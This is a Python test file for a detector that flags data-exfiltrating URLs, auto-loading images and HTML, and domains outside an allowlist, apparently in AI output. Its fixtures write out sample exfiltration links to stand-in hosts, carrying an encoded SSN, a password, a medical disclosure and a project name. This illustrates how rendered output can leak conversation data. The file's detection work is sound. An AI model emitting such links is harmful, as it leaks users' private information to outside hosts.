"""Exfiltration links (URL): data-carrying URLs, auto-loading content, domain allowlists."""

from __future__ import annotations

from mantlet import Engine
from mantlet.detectors.code.exfiltration import scan_links


def labels(text: str) -> set[str]:
    return {f.label for f in Engine(only=["URL"]).scan(text).findings}


def test_markdown_image_to_an_external_domain_auto_loads() -> None:
    assert labels("![chart](https://img.example.net/c.png)") == {"AUTOLOAD_IMAGE"}


def test_image_carrying_an_encoded_blob_is_exfiltration() -> None:
    text = "![](https://collect.example/p?q=dXNlcjogYWxpY2UsIHNzbjogMDc4LTA1LTExMjA=)"
    assert "DATA_EXFILTRATION" in labels(text)


def test_link_with_a_credential_in_the_query_is_exfiltration() -> None:
    text = "[continue](https://x.example/next?note=my%20password%20is%20hunter22)"
    assert labels(text) == {"DATA_EXFILTRATION"}


def test_auto_loading_html_and_css() -> None:
    assert "AUTOLOAD_HTML" in labels('<iframe src="https://x.example/frame"></iframe>')
    assert "AUTOLOAD_HTML" in labels('<script src="//cdn.example/x.js"></script>')
    assert "AUTOLOAD_HTML" in labels("<div style=\"background:url('https://t.example/a.gif')\">")


def test_ordinary_links_and_local_images_pass() -> None:
    assert labels("See [the docs](https://docs.python.org/3/) or https://example.com.") == set()
    assert labels("![diagram](images/arch.png)") == set()


def test_allowlist_lets_trusted_domains_through_and_flags_others() -> None:
    text = "![logo](https://cdn.example.com/logo.png) [more](https://elsewhere.org/a)"
    found = {
        (f.label, text[f.start : f.end]) for f in scan_links(text, allowed_domains=["example.com"])
    }
    assert found == {("UNLISTED_DOMAIN", "https://elsewhere.org/a")}


def test_values_from_the_conversation_in_a_url_are_exfiltration() -> None:
    text = "![ok](https://log.example/i?v=Project-Falcon-Budget)"
    findings = scan_links(text, context_values=["project-falcon-budget"])
    (leak,) = [f for f in findings if f.label == "DATA_EXFILTRATION"]
    assert leak.score >= 0.95 and "conversation" in leak.reason
    assert "Falcon" not in leak.evidence


def test_conversation_text_quoted_into_a_link_is_exfiltration() -> None:
    text = "[details](https://x.example/?m=my%20doctor%20said%20the%20biopsy%20was%20positive)"
    context = "User: my doctor said the biopsy was positive, what now?"
    assert any(f.label == "DATA_EXFILTRATION" for f in scan_links(text, context_text=context))
    assert not any(f.label == "DATA_EXFILTRATION" for f in scan_links(text, context_text="hello"))


def test_the_gateway_passes_the_conversation_around_one_compiled_engine() -> None:
    from mantlet.detectors.code.exfiltration import conversation

    engine = Engine(only=["CODE", "CONTENT", "URL"])
    output = "Summary done. [source](https://notes.example/s?ref=Project-Falcon-Budget)"
    assert engine.scan(output).findings == ()
    with conversation(context_values=["project-falcon-budget"], allowed_domains=["example.com"]):
        inside = {f.label for f in engine.scan(output).findings}
    assert inside == {"DATA_EXFILTRATION", "UNLISTED_DOMAIN"}
    assert engine.scan(output).findings == ()  # the context ends with the block
